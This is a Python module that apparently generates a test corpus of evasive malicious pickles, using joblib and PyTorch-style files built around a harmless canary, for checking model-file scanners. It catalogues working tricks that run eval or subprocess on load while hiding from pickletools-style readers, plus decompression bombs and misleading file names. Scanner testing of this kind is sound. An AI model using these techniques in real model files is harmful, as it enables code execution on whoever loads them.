"""Pickles that hide what they do from a reader which is not careful."""

import base64
import copyreg
import pickle
import struct
from collections.abc import Callable

import joblib
import numpy as np
import torch

from corpus.canary import Canary
from corpus.opcodes import called, plain, stream, text
from corpus.writing import Builder, written


def evil(canary: Canary, protocol: int = 2) -> bytes:
    """A pickle that runs the canary."""
    return stream(called("builtins", "eval", canary.python), protocol=protocol)


def arguments(canary: Canary) -> bytes:
    return plain((canary.python,))


def stack_global(canary: Canary) -> bytes:
    return stream(
        text("builtins"), text("eval"), b"\x93", arguments(canary), b"R", protocol=4
    )  # fmt: skip


def stack_global_memo(canary: Canary) -> bytes:
    """The names come out of the memo, in another order, with others above them."""
    names = text("eval") + b"\x94" + text("builtins") + b"\x94" + text("collections") + b"\x940000"
    return stream(names[:-1], b"h\x01h\x00\x93", arguments(canary), b"R", protocol=4)


def stack_global_long_memo(canary: Canary) -> bytes:
    """LONG_BINPUT far out, then LONG_BINGET."""
    far = struct.pack("<I", 70_000)
    return stream(
        text("builtins"), b"r" + far, b"0", b"j" + far, text("eval"), b"\x93",
        arguments(canary), b"R", protocol=4,
    )  # fmt: skip


def stack_global_dup(canary: Canary) -> bytes:
    """DUP makes the second of two equal names."""
    return stream(text("code"), b"2\x93)R", protocol=4) + evil(canary)


def stack_global_unreadable(canary: Canary) -> bytes:
    """The name is the result of a call."""
    name = called("builtins", "str", "eval")
    return stream(text("builtins"), name, b"\x93", arguments(canary), b"R", protocol=4)


def inst(canary: Canary) -> bytes:
    return b"(V" + canary.python.encode() + b"\nibuiltins\neval\n."


def obj(canary: Canary) -> bytes:
    return b"(cbuiltins\neval\nV" + canary.python.encode() + b"\no."


def newobj(canary: Canary) -> bytes:
    return stream(b"csubprocess\nPopen\n", plain((["touch", str(canary.file)],)), b"\x81")


def newobj_ex(canary: Canary) -> bytes:
    return stream(
        b"csubprocess\nPopen\n", plain((["touch", str(canary.file)],)), b"}\x92", protocol=4
    )


def protocol_0(canary: Canary) -> bytes:
    return b"cbuiltins\neval\n(V" + canary.python.encode() + b"\ntR."


def without_stop(canary: Canary) -> bytes:
    return evil(canary)[:-1]


def breaks_after_the_call(canary: Canary) -> bytes:
    """Executed first, broken second: many readers report the error only."""
    return evil(canary)[:-1] + b"\xff\xff\xff"


def breaks_before_stop(canary: Canary) -> bytes:
    return evil(canary)[:-1] + b"X\xff\xff\xff\x7f"


def second_of_two(canary: Canary) -> bytes:
    return pickle.dumps({"weights": [1, 2, 3]}) + evil(canary)


def nested(canary: Canary) -> bytes:
    return pickle.dumps({"weights": evil(canary)})


def nested_twice(canary: Canary) -> bytes:
    return pickle.dumps([pickle.dumps({"weights": evil(canary)})])


def nested_old(canary: Canary) -> bytes:
    """Protocol 2 writes bytes as text for _codecs.encode."""
    return pickle.dumps([protocol_0(canary)], 2)


def nested_call(canary: Canary) -> bytes:
    return stream(called("pickle", "loads", evil(canary)))


def decoded_call(canary: Canary) -> bytes:
    """Text that is only code after base64."""
    packed = base64.b64encode(canary.python.encode()).decode()
    return stream(
        b"cbuiltins\neval\n(", called("base64", "b64decode", packed), b"tR"
    )  # fmt: skip


def attribute_of_safe_module(canary: Canary) -> bytes:
    """A dotted name behind an innocent module."""
    return stream(text("numpy"), text("prod.os.system"), b"\x93", plain((canary.shell,)), b"R",
                  protocol=4)  # fmt: skip


def builtins_of_safe_module(canary: Canary) -> bytes:
    return stream(
        b"cnumpy\n__builtins__\n0", called("builtins", "getattr", "x", "upper"), protocol=2
    ) + evil(canary)


def build_on_function(canary: Canary) -> bytes:
    """BUILD on a global changes that global for everyone."""
    return stream(b"cnumpy\nlog1p\n(N", plain({"os": 1}), b"tb")


def build_setstate(canary: Canary) -> bytes:
    """A state that brings its own __setstate__."""
    del canary
    return stream(
        b"cargparse\nNamespace\n)\x81}X\x0c\x00\x00\x00__setstate__cbuiltins\nlist\nsb"
        b"X\x01\x00\x00\x00xb"
    )


def extension(canary: Canary) -> bytes:
    del canary
    code = 240
    if ("os", "system") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        return stream(b"\x82" + bytes([code]), plain(("true",)), b"R")
    raise AssertionError("the registry is not empty")


def persistent(canary: Canary) -> bytes:
    return stream(plain(("exec", canary.python)), b"Q")


def laughs(canary: Canary) -> bytes:
    """A few hundred bytes that are billions of values."""
    del canary
    value: object = "ha"
    for _ in range(60):
        value = (value,) * 2
    return pickle.dumps(value, 4)


def allocation(canary: Canary) -> bytes:
    del canary
    return stream(called("builtins", "bytearray", 10**11))


def pop_hides_call(canary: Canary) -> bytes:
    """The result is thrown away: a reader that only follows the value sees nothing."""
    return stream(called("builtins", "eval", canary.python), b"0", plain([1, 2, 3]))


def in_text_file(canary: Canary) -> bytes:
    return protocol_0(canary)


def non_ascii_noise(canary: Canary) -> bytes:
    """pickletools refuses a name that is no ASCII; the unpickler goes on to the next opcode."""
    return b"V\xe9\n0" + protocol_0(canary)


def hexadecimal(canary: Canary) -> bytes:
    """pickletools cannot read this number; the unpickler can."""
    return b"I0x10\n0" + protocol_0(canary)


def joblib_array(canary: Canary) -> bytes:
    """A pickle inside joblib's array of objects, which is a stream of its own."""
    import io

    buffer = io.BytesIO()
    joblib.dump({"a": np.array(["MARK"], dtype=object)}, buffer)
    content = buffer.getvalue()
    start = content.index(b"\x80", 2)
    end = content.index(b".", content.index(b"MARK")) + 1
    return content[:start] + evil(canary) + content[end:]


def joblib_hidden(canary: Canary) -> bytes:
    """Opcodes in joblib's raw array: pickle.load executes them, joblib.load skips them."""
    hidden = called("builtins", "eval", canary.python) + b"0"
    state = (
        b"}(" + plain("subclass") + b"cnumpy\nndarray\n" + plain("shape") + plain((len(hidden),))
        + plain("order") + plain("C") + plain("dtype") + plain(np.dtype("u1"))
        + plain("allow_mmap") + plain(False) + b"u"
    )  # fmt: skip
    return stream(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b" + hidden)


def joblib_wrapper(canary: Canary) -> bytes:
    """joblib's wrapper made by copyreg: its loader skips bytes where a walk may see none."""
    return stream(
        b"ccopyreg\n_reconstructor\n(cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
        b"cbuiltins\nobject\nNtR}b"
    ) + evil(canary)


def wrapped(hidden: bytes, dtype: bytes, size: int, *, more: bytes = b"") -> bytes:
    """joblib's wrapper of an array of ``size`` bytes, with foreign bytes where they belong."""
    state = (
        b"}(" + plain("subclass") + b"cnumpy\nndarray\n" + plain("shape") + plain((size,))
        + plain("order") + plain("C") + plain("dtype") + dtype
        + plain("allow_mmap") + plain(False) + more + b"u"
    )  # fmt: skip
    return b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b" + hidden


def dtype(code: str, *state: object) -> bytes:
    return called("numpy", "dtype", code, False, True) + plain(state) + b"b"


SWALLOW = b"\x8e"
"""BINBYTES8: a reader that takes it for an opcode loses as many bytes as follow it."""


def swallowing(canary: Canary) -> bytes:
    """A call that a reader skips who takes the nine bytes in front of it for opcodes."""
    call = called("builtins", "eval", canary.python) + b"."
    return SWALLOW + struct.pack("<Q", len(call)) + call


def joblib_flags(canary: Canary) -> bytes:
    """A dtype of numbers whose flags say objects: joblib unpickles where the values would be."""
    inner = evil(canary)
    size = len(inner)
    kind = dtype(f"V{size}", 3, "|", None, None, None, size, 1, 63)
    return wrapped(inner + b".", kind, 1)


def joblib_size(canary: Canary) -> bytes:
    """A dtype whose state gives it another size than its code."""
    values = swallowing(canary)
    kind = dtype(f"V{len(values)}", 3, "|", None, None, None, 9, 1, 0)
    return wrapped(values + b".", kind, 1)


def joblib_shape_twice(canary: Canary) -> bytes:
    """The last of two shapes counts."""
    values = swallowing(canary)
    more = plain("shape") + plain((9,))
    return wrapped(values + b".", plain(np.dtype("u1")), len(values), more=more)


def joblib_alignment(canary: Canary) -> bytes:
    """No alignment is not an alignment of nothing."""
    call = called("builtins", "eval", canary.python) + b"."
    skipped = bytes([len(call) + 10])
    more = plain("numpy_array_alignment_bytes") + b"N"
    values = skipped + b"\x00" * 8
    return wrapped(values + call + b"0" * 20 + b".", plain(np.dtype("u1")), 9, more=more)


def joblib_frame(canary: Canary) -> bytes:
    """joblib reads an array from behind the frame and goes on inside it."""
    call = called("builtins", "eval", canary.python) + b"."
    content = wrapped(b"", plain(np.dtype("u1")), len(call))[2:]
    frame = b"\x95" + struct.pack("<Q", len(content) + len(call))
    return b"\x80\x04" + frame + content + call + b"N" * len(call)


def torch_from_bytes(canary: Canary) -> bytes:
    """A tensor's own way to be pickled: bytes for torch.load, here in the old format."""
    import io

    buffer = io.BytesIO()
    torch.save(torch.ones(2), buffer, _use_new_zipfile_serialization=False)
    parts = io.BytesIO(buffer.getvalue())
    for _ in range(3):
        pickle.load(parts)
    inner = buffer.getvalue()[: parts.tell()] + evil(canary)
    return stream(b"ctorch.storage\n_load_from_bytes\n", plain((inner,), 4), b"R", protocol=4)


def torch_other_magic(canary: Canary) -> bytes:
    """PyTorch's old format whose first number is made by a call."""
    magic = called("builtins", "eval", "0x1950A86A20F9469CFC6C")
    return stream(magic) + pickle.dumps(1001) + evil(canary)


def torch_legacy(canary: Canary) -> bytes:
    import io

    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buffer, _use_new_zipfile_serialization=False)
    content = buffer.getvalue()
    parts = io.BytesIO(content)
    for _ in range(3):
        pickle.load(parts)
    return content[: parts.tell()] + evil(canary) + content[parts.tell() :]


_STREAMS: dict[str, tuple[Callable[[Canary], bytes], str]] = {
    "stack-global": (stack_global, "m.pkl"),
    "stack-global-memo": (stack_global_memo, "m.pkl"),
    "stack-global-long-memo": (stack_global_long_memo, "m.pkl"),
    "stack-global-dup": (stack_global_dup, "m.pkl"),
    "stack-global-computed": (stack_global_unreadable, "m.pkl"),
    "inst": (inst, "m.pkl"),
    "obj": (obj, "m.pkl"),
    "newobj": (newobj, "m.pkl"),
    "newobj-ex": (newobj_ex, "m.pkl"),
    "protocol-0": (protocol_0, "m.pkl"),
    "protocol-5": (lambda c: evil(c, 5), "m.pkl"),
    "without-stop": (without_stop, "m.pkl"),
    "breaks-after-the-call": (breaks_after_the_call, "m.pkl"),
    "breaks-before-stop": (breaks_before_stop, "m.pkl"),
    "second-of-two": (second_of_two, "m.pkl"),
    "nested": (nested, "m.pkl"),
    "nested-twice": (nested_twice, "m.pkl"),
    "nested-as-text": (nested_old, "m.pkl"),
    "nested-call": (nested_call, "m.pkl"),
    "decoded-call": (decoded_call, "m.pkl"),
    "attribute-of-safe-module": (attribute_of_safe_module, "m.pkl"),
    "builtins-of-safe-module": (builtins_of_safe_module, "m.pkl"),
    "build-on-function": (build_on_function, "m.pkl"),
    "build-setstate": (build_setstate, "m.pkl"),
    "extension-registry": (extension, "m.pkl"),
    "persistent-id": (persistent, "m.pkl"),
    "billion-laughs": (laughs, "m.pkl"),
    "allocation": (allocation, "m.pkl"),
    "pop-hides-call": (pop_hides_call, "m.pkl"),
    "name-says-text": (in_text_file, "notes.txt"),
    "name-says-image": (evil, "cat.png"),
    "name-says-hdf5": (evil, "model.h5"),
    "name-says-config": (in_text_file, "config"),
    "no-extension": (evil, "pytorch_model"),
    "unknown-extension": (evil, "model.dat"),
    "non-ascii-noise": (non_ascii_noise, "m.pkl"),
    "hexadecimal-number": (hexadecimal, "m.pkl"),
    "joblib-object-array": (joblib_array, "m.joblib"),
    "joblib-raw-array": (joblib_hidden, "m.joblib"),
    "joblib-wrapper": (joblib_wrapper, "m.joblib"),
    "joblib-flags": (joblib_flags, "m.joblib"),
    "joblib-size": (joblib_size, "m.joblib"),
    "joblib-shape-twice": (joblib_shape_twice, "m.joblib"),
    "joblib-alignment": (joblib_alignment, "m.joblib"),
    "joblib-frame": (joblib_frame, "m.joblib"),
    "torch-from-bytes": (torch_from_bytes, "m.pkl"),
    "torch-other-magic": (torch_other_magic, "m.pt"),
    "torch-legacy": (torch_legacy, "m.pt"),
}


FILES: dict[str, Builder] = {
    f"stream-{name}": written(file, make) for name, (make, file) in _STREAMS.items()
}
